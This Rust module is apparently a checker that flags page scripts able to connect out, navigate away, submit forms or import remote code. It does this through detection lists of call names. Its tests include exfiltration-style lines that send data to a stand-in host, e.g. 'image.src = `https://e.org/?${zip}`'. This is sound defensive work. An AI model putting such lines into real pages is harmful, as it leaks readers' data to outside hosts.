//! What a script would ask for, or where it would send its reader.
//!
//! The policy lets no script connect; here each call that would try is named before anybody's
//! browser blocks it. And the policy does not stop navigation: an address is a way to send
//! something away too. So a script may not set the page's address, open a window, send a form by
//! itself, or import what is worked out or stands elsewhere.
//!
//! **Limits.** Names are read as they are written, with their escapes: whoever puts `location` into
//! a variable first, or works out its name, is not seen here, and neither is a click that a script
//! makes on a link. The policy still lets nothing but navigation through, and the tests in the
//! browser record every request of whole visits.

mod tokens;

use super::{Breach, Own, Target};
use tokens::{Kind, Token, tokens};

/// What a call of each of these would do, by name. All of them are global, or methods that nothing
/// else has.
const CALLS: &[&str] = &[
    "fetch",
    "XMLHttpRequest",
    "WebSocket",
    "WebSocketStream",
    "EventSource",
    "WebTransport",
    "RTCPeerConnection",
    "importScripts",
    "eval",
    "Function",
];

/// The names of the global object, through which all others can be reached.
const GLOBALS: &[&str] = &[
    "window",
    "self",
    "globalThis",
    "document",
    "top",
    "parent",
    "frames",
];

/// Properties whose address a browser fetches, or sends a form to, at once.
const FETCHED: &[&str] = &[
    "src",
    "srcset",
    "poster",
    "data",
    "action",
    "formAction",
    "ping",
    "background",
];

/// What is wrong with a script.
pub(in crate::check) fn breaches(script: &str, own: Own<'_>) -> Vec<Breach> {
    let tokens = tokens(script);
    let code = Code {
        tokens: &tokens,
        own,
    };
    let breach = |at: usize| {
        let what = code.breach_at(at)?;
        Some(Breach {
            what,
            at: Some(tokens[at].at.clone()),
        })
    };
    (0..tokens.len()).filter_map(breach).collect()
}

/// What a script imports at once: all but what it asks for later with `import()`.
pub(in crate::check) fn imports(script: &str) -> Vec<String> {
    let tokens = tokens(script);
    let text = |pair: &[Token<'_>]| match (pair[0].word(), &pair[1].kind) {
        ("import" | "from", Kind::Text(text)) => Some(text.clone().into_owned()),
        _ => None,
    };
    tokens.windows(2).filter_map(text).collect()
}

struct Code<'c> {
    tokens: &'c [Token<'c>],
    own: Own<'c>,
}

impl<'c> Code<'c> {
    fn word(&self, at: usize) -> &'c str {
        self.tokens.get(at).map_or("", Token::word)
    }

    fn is(&self, at: usize, sign: u8) -> bool {
        self.tokens.get(at).is_some_and(|token| token.is(sign))
    }

    fn text(&self, at: usize) -> Option<&'c str> {
        match &self.tokens.get(at)?.kind {
            Kind::Text(text) => Some(text),
            _ => None,
        }
    }

    /// Whether a string here is all of an argument, and not the beginning of something that is
    /// worked out.
    fn is_whole(&self, at: usize) -> bool {
        [b')', b',', b';'].iter().any(|end| self.is(at + 1, *end))
    }

    fn is_before(&self, at: usize, back: usize, sign: u8) -> bool {
        at.checked_sub(back).is_some_and(|at| self.is(at, sign))
    }

    fn word_before(&self, at: usize, back: usize) -> &'c str {
        at.checked_sub(back).map_or("", |at| self.word(at))
    }

    /// Whether the word is a property of something that is not the global object.
    fn is_property(&self, at: usize) -> bool {
        self.is_before(at, 1, b'.') && !GLOBALS.contains(&self.word_before(at, 2))
    }

    /// Whether the name is given to something here, and not used: a function, a method, a variable,
    /// a key.
    fn is_declared(&self, at: usize) -> bool {
        let declares = [
            "function", "const", "let", "var", "class", "get", "set", "async", "static",
        ];
        declares.contains(&self.word_before(at, 1)) || self.is(at + 1, b':') || self.is_method(at)
    }

    /// Whether the brackets after the word are followed by a body: `open() {`.
    fn is_method(&self, at: usize) -> bool {
        let mut depth = 0_usize;
        for next in at + 1..self.tokens.len() {
            if self.is(next, b'(') {
                depth += 1;
            } else if self.is(next, b')') {
                depth = depth.saturating_sub(1);
            }
            if depth == 0 {
                return next > at + 1 && self.is(next + 1, b'{');
            }
        }
        false
    }

    /// Whether something is set here: `=`, `+=`, `??=`, and not `==` or `=>`.
    fn is_set(&self, at: usize) -> bool {
        let skip = (0..3).find(|skip| {
            !(at + skip < self.tokens.len() && b"+?|&".iter().any(|sign| self.is(at + skip, *sign)))
        });
        let at = at + skip.unwrap_or(0);
        self.is(at, b'=') && !self.is(at + 1, b'=') && !self.is(at + 1, b'>')
    }

    fn breach_at(&self, at: usize) -> Option<String> {
        match &self.tokens[at].kind {
            Kind::Word(word) => self.breach_of_word(at, word),
            // `window["fetch"]`
            Kind::Text(name) if self.is_before(at, 1, b'[') && self.is(at + 1, b']') => {
                let is_known = CALLS.contains(&&**name)
                    || matches!(&**name, "location" | "open" | "sendBeacon");
                let is_global = GLOBALS.contains(&self.word_before(at, 2))
                    || self.word_before(at, 2) == "navigator";
                (is_known && is_global).then(|| format!("reaches for `{name}`"))
            }
            _ => None,
        }
    }

    fn breach_of_word(&self, at: usize, word: &str) -> Option<String> {
        let is_call = self.is(at + 1, b'(');
        let is_used = !self.is_property(at) && !self.is_declared(at);
        match word {
            "import" | "from" | "export" => self.import(at, word),
            "location" => self.navigation(at),
            "sendBeacon" => Some("sends with `sendBeacon`".to_owned()),
            "cookie" if self.is_before(at, 1, b'.') && self.is_set(at + 1) => {
                Some("sets a cookie".to_owned())
            }
            "submit" | "requestSubmit"
                if is_call && self.is_before(at, 1, b'.') && self.word_before(at, 2) != "this" =>
            {
                let is_super = self.word_before(at, 2) == "super";
                (!is_super).then(|| format!("sends a form by itself with `{word}()`"))
            }
            "open" if is_call && is_used => Some("opens a window with `open()`".to_owned()),
            "navigate" if is_call && self.word_before(at, 2) == "navigation" => {
                Some("sends the reader on with `navigation.navigate()`".to_owned())
            }
            "setAttribute" if is_call => self.attribute(at),
            _ if CALLS.contains(&word) && is_used && (is_call || self.is_reached(at)) => {
                Some(format!("uses `{word}`"))
            }
            _ if FETCHED.contains(&word) && self.is_before(at, 1, b'.') && self.is_set(at + 1) => {
                self.fetched(at + 2, word)
            }
            "Worker" | "SharedWorker" | "Audio" if is_call => self.fetched(at + 2, word),
            _ => None,
        }
    }

    /// Whether something that one calls is handed on, to be called elsewhere: `const f = fetch;`,
    /// `new WebSocket`.
    fn is_reached(&self, at: usize) -> bool {
        self.word_before(at, 1) == "new"
            || self.is_before(at, 1, b'.')
            || self.is_before(at, 1, b'=')
    }

    /// `import(…)`, `import "x"`, `import … from "x"`, `export … from "x"`.
    fn import(&self, at: usize, word: &str) -> Option<String> {
        if self.is_before(at, 1, b'.') {
            return None;
        }
        if word == "import" && self.is(at + 1, b'(') {
            let Some(target) = self.text(at + 2).filter(|_| self.is_whole(at + 2)) else {
                return (!self.is_method(at))
                    .then(|| "imports what is worked out as it runs".to_owned());
            };
            return self
                .elsewhere(target)
                .then(|| format!("imports `{target}`"));
        }
        let target = self.text(at + 1).filter(|_| word != "export")?;
        self.elsewhere(target)
            .then(|| format!("imports `{target}`"))
    }

    /// `location = …`, `location.href = …`, `location.assign(…)`; the part after `#` stays with the
    /// reader.
    fn navigation(&self, at: usize) -> Option<String> {
        let of = self.word_before(at, 2);
        let is_own = self.is_before(at, 1, b'.') && (of == "this" || !(GLOBALS.contains(&of)));
        if is_own || self.is_declared(at) {
            return None;
        }
        let says = |what: &str| Some(format!("sends the reader on with `{what}`"));
        if self.is_set(at + 1) {
            return says("location =");
        }
        if self.is(at + 1, b'[') && self.text(at + 2).is_none_or(|name| name != "hash") {
            return says("location[…]");
        }
        let property = self.word(at + 2);
        match property {
            "assign" | "replace" if self.is(at + 1, b'.') => {
                says(&format!("location.{property}()"))
            }
            "hash" | "" => None,
            _ if self.is(at + 1, b'.') && self.is_set(at + 3) => {
                says(&format!("location.{property} ="))
            }
            _ => None,
        }
    }

    /// `setAttribute("src", "…")`
    fn attribute(&self, at: usize) -> Option<String> {
        let name = self.text(at + 2)?.to_ascii_lowercase();
        let is_fetched = FETCHED
            .iter()
            .any(|known| known.eq_ignore_ascii_case(&name));
        if is_fetched {
            self.fetched(at + 4, &name)
        } else {
            None
        }
    }

    fn fetched(&self, at: usize, what: &str) -> Option<String> {
        let address = self.text(at)?;
        self.elsewhere(address)
            .then(|| format!("asks for `{address}` with `{what}`"))
    }

    fn elsewhere(&self, address: &str) -> bool {
        self.own.target(address) == Target::Elsewhere
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn check(script: &str, expected: usize) {
        let found = breaches(script, Own::new(Some("https://own.org/")));
        assert_eq!(found.len(), expected, "{script}: {found:?}");
    }

    #[test]
    fn what_leaves_the_page_is_found() {
        for script in [
            "fetch('/x')",
            "window.fetch(x)",
            "const send = fetch;",
            "globalThis['fetch'](x)",
            "f\\u0065tch('/x')",
            "new XMLHttpRequest()",
            "new XMLHttpRequest",
            "navigator.sendBeacon('/x', y)",
            "new WebSocket(`wss://${host}`)",
            "new EventSource('/x')",
            "new RTCPeerConnection(x)",
            "importScripts('x.js')",
            "eval(x)",
            "new Function('x')",
            "import(name)",
            "import('./' + name)",
            "import(`./${name}.js`)",
            "import('https://e.org/x.js')",
            "import 'https://e.org/x.js'",
            "import { a } from \"//e.org/x.js\"",
            "export * from 'https://e.org/x.js'",
            "location = x",
            "window.location = x",
            "location.href = 'https://e.org/?' + zip",
            "document.location.href += x",
            "location['href'] = x",
            "location.assign(x)",
            "window.location.replace(x)",
            "location.search = x",
            "window.open(x)",
            "open('https://e.org')",
            "form.submit()",
            "this.form.requestSubmit()",
            "navigation.navigate(x)",
            "new Image().src = 'https://e.org/x.gif'",
            "image.src = `https://e.org/?${zip}`",
            "image.setAttribute('src', '//e.org/x.gif')",
            "new Worker('https://e.org/x.js')",
            "document.cookie = 'a=b'",
            "a = `${b}${fetch(c)}`",
            "if (a) /x/.test(fetch(b))",
            "x = a / fetch(b) / c",
        ] {
            check(script, 1);
        }
    }

    #[test]
    fn what_stays_is_not() {
        for script in [
            "// fetch(x)\n/* location = x */",
            "const text = 'fetch(x)', other = \"location = 'x'\", more = `open(x)`;",
            "if (/fetch('x')\\/[/]location = 1/.test(a)) b();",
            "return /open(x)/",
            "import('./zips.js')",
            "import { a } from './a.js'; export { a } from './b.js'; export default { fetch: 1 };",
            "import('https://own.org/x.js')",
            "import.meta.url",
            "location.hash = x; location.reload(); const here = location.href;",
            "if (location.pathname === x || location == y) z();",
            "const location = list[0]; let open = true;",
            "item.location = x; this.location = y; ({ location: 1, open: 2 });",
            "dialog.open(); class A { open() { } fetch(a, b) { } static submit() {} }",
            "this.submit(); form.addEventListener('submit', f);",
            "cache.fetch(x)",
            "link.href = 'https://e.org/'; const ns = 'http://www.w3.org/2000/svg';",
            "image.src = './x.png'; image.src = other; data.src === 'https://e.org'",
            "new Worker('./x.js'); new Audio()",
            "text.replace(/a/, 'b'); Object.assign(a, b); document.cookie.length",
            "const isFunction = f instanceof Function; a.eval; history.replaceState(null, '', '#q=x')",
            "x = a\n/ b; c = 'https://e.org/'.length / 2",
            "const from = 'https://e.org/';",
            "/\\",
            "'\\",
            "`${",
            "#",
            "\\u",
        ] {
            check(script, 0);
        }
    }

    #[test]
    fn the_place_is_that_of_the_word() {
        let script = "const a = 1;\n  window.location.href = a;";
        let found = breaches(script, Own::default());
        assert_eq!(found[0].at.clone().map(|at| &script[at]), Some("location"));
    }

    proptest! {
        #[test]
        fn any_text_is_read_to_its_end(script in "[a-z(){}\\[\\]'\"`$\\\\/*#;:=.é0-9 \n-]{0,60}") {
            for found in breaches(&script, Own::default()) {
                prop_assert!(found.at.is_some_and(|at| script.get(at).is_some()));
            }
        }

        #[test]
        fn nothing_in_a_string_is_code(text in "[a-z(){}.=/*` ]{0,30}") {
            prop_assert_eq!(breaches(&format!("const a = {text:?}; b();"), Own::default()), Vec::new());
        }
    }
}
